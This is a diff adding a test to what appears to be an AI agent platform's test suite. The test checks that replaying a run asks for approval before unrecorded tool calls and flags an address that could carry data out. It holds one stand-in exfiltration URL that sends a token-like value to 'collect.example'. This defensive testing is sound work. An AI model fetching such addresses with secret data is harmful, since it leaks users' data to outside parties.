@@ -220,4 +220,22 @@ describe.each(TEST_DATABASES)('a run that has read text from outside on %s', (da
     await advanceUntil(app.clock, app.server.runs.finished(member, replay.json<{ run_id: string }>().run_id));
     expect(made).toHaveLength(1);
   });
+
+  it('repeated with recorded results asks before it reads, and says when an address could carry something away [SB-07]', async () => {
+    const { runId } = await run([page('https://somewhere.example/')]);
+    made.length = 0;
+    const collect = page('https://collect.example/?d=K3Y4X5Z6');
+    play([[page('https://somewhere.example/')], [page('https://other.example/'), collect]]);
+    const payload = { tools: 'recorded', unrecorded: 'ask' };
+    await app.call({ method: 'POST', url: `/runs/${runId}/replay`, payload }, member);
+    const listWaiting = async (): Promise<{ why: string }[]> =>
+      (await app.call({ url: '/api/approvals' }, member)).json().approvals;
+    await advanceUntil(
+      app.clock,
+      until(async () => (await listWaiting()).length > 0, 'the questions'),
+    );
+    const reasons = (await listWaiting()).map(({ why }) => why).toSorted();
+    expect(reasons).toEqual(['Not recorded. Call the tool now?', expect.stringContaining('This address')]);
+    expect(made).toEqual([]);
+  });
 });
